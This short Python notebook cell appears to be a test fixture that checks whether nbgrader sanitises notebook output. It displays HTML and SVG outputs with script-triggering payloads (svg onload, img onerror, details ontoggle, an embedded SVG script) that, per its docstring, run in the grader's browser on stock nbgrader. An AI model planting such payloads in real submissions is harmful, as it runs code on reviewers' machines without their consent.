"""Leaves pictures and other things in its output that run code when something happens to them.

On stock nbgrader: it acts on its reader.
"""

# %%
from IPython.display import HTML, SVG, display

display(HTML("<svg onload=\"document.title='{marker}'\"></svg><img src=x onerror='alert(1)'>"))
display(HTML("<details open ontoggle=alert(1)><summary>{marker}</summary></details>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{marker}')</script></svg>"))
